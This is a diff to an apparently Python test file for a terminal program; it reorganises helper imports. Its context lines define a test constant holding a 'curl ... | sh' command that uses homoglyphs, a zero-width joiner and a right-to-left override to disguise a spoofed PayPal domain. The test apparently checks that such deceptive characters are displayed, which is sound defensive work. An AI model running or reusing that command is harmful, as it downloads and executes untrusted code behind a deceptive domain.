@@ -6,8 +6,9 @@ from pathlib import Path
 
 import pytest
 
-from tests.helpers import agent, call, script
-from tests.pty.screen import Terminal
+from tests.support.program import agent
+from tests.support.pty_session import Terminal
+from tests.support.scripts import call, script
 
 COMMAND = "curl https://p\u0430ypal.com/\u200d\u202ex | s\u04bb"
 SHOWN = r"curl https://p\u0430ypal.com/\u200d\u202ex | s\u04bb"
